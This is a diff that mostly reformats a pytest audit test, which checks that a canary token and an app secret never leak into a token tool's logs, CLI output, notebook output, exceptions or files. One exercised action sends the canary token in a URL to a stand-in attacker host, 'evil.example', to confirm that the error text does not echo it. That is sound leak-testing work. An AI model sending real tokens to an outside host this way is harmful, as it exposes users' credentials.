@@ -13,9 +13,7 @@ tests/notebooks (the kernel's sandbox makes its own tokens there).
 from __future__ import annotations
 
 import io
-import json
 import logging
-import os
 import re
 import sys
 import traceback
@@ -78,8 +76,12 @@ def test_canary_token_and_secret_never_appear(audit_env, caplog, capsys, monkeyp
 
     with caplog.at_level(logging.DEBUG):
         # -- CLI and the store on the real keyring ---------------------------------------
-        assert cli_run("login", "--profile", "audit", "--token-stdin", "--save-app-secret", "--no-extend",
-                       stdin=canary + "\n") == 0
+        assert (
+            cli_run(
+                "login", "--profile", "audit", "--token-stdin", "--save-app-secret", "--no-extend", stdin=canary + "\n"
+            )
+            == 0
+        )
         assert cli_run("inspect", "--profile", "audit", "--json") == 0
         assert cli_run("check", "--profile", "audit", "--json") == 1  # expiring soon
         assert cli_run("check", "--all") == 1
@@ -108,7 +110,9 @@ def test_canary_token_and_secret_never_appear(audit_env, caplog, capsys, monkeyp
             panel.save_button.click()
             assert panel.wait_idle(), panel.message_text
             with capture_output() as frames_out:
-                shell.run_cell("tokens = %meta_tokens\nscopes = %meta_scopes --profile panel-audit\ndisplay(tokens)\nrepr(meta)")
+                shell.run_cell(
+                    "tokens = %meta_tokens\nscopes = %meta_scopes --profile panel-audit\ndisplay(tokens)\nrepr(meta)"
+                )
                 shell.run_cell("%meta_logout --profile panel-audit")
             texts += [captured.stdout, captured.stderr, frames_out.stdout, frames_out.stderr]
             texts += [str(o.data) for o in captured.outputs + frames_out.outputs]
@@ -124,8 +128,9 @@ def test_canary_token_and_secret_never_appear(audit_env, caplog, capsys, monkeyp
         for action in (
             lambda: mab.GraphSession(canary, app_secret="0" * 32, **opts).get("me"),
             lambda: mab.GraphSession(canary, **opts).get(f"https://evil.example/x?access_token={canary}"),
-            lambda: mab.exchange_code("used-or-bad", app_id=box.app_id, app_secret=secret,
-                                      redirect_uri="http://127.0.0.1:1/cb", **opts),
+            lambda: mab.exchange_code(
+                "used-or-bad", app_id=box.app_id, app_secret=secret, redirect_uri="http://127.0.0.1:1/cb", **opts
+            ),
             lambda: mab.extend_token(canary, app_id=box.app_id, app_secret=secret[::-1], **opts),
             lambda: mab.parse_redirect(f"http://127.0.0.1/cb?code={canary}&state=x", "y"),
             lambda: TokenStore().load("audit"),
@@ -136,8 +141,9 @@ def test_canary_token_and_secret_never_appear(audit_env, caplog, capsys, monkeyp
             failures.append(info.value)
         box.change_password("alice")
         with pytest.raises(E.TokenInvalidated) as invalid:
-            mab.session("nothing-stored-here", store=TokenStore(environ={"META_ACCESS_TOKEN": canary}), **opts) \
-                if False else mab.GraphSession(canary, **opts).get("me")
+            mab.session(
+                "nothing-stored-here", store=TokenStore(environ={"META_ACCESS_TOKEN": canary}), **opts
+            ) if False else mab.GraphSession(canary, **opts).get("me")
         failures.append(invalid.value)
         texts += [_exception_text(f) for f in failures]
 
@@ -145,8 +151,13 @@ def test_canary_token_and_secret_never_appear(audit_env, caplog, capsys, monkeyp
     texts += [out.out, out.err, caplog.text] + [r.getMessage() for r in caplog.records]
     texts.append(_files_text(config, tmp_path / "tmp"))
     everything = "\n".join(texts)
-    for value, name in ((canary, "token"), (extended, "extended token"), (second, "panel token"), (secret, "app secret")):
+    for value, name in (
+        (canary, "token"),
+        (extended, "extended token"),
+        (second, "panel token"),
+        (secret, "app secret"),
+    ):
         where = everything.find(value)
-        assert where < 0, f"the {name} leaked: ...{everything[max(0, where - 300):where]!r}"
+        assert where < 0, f"the {name} leaked: ...{everything[max(0, where - 300) : where]!r}"
     assert canary[:4] + "\u2026" + canary[-4:] in everything  # masks are what people saw
     assert not TOKEN_SHAPE.search(everything), TOKEN_SHAPE.search(everything).group(0)[:8]
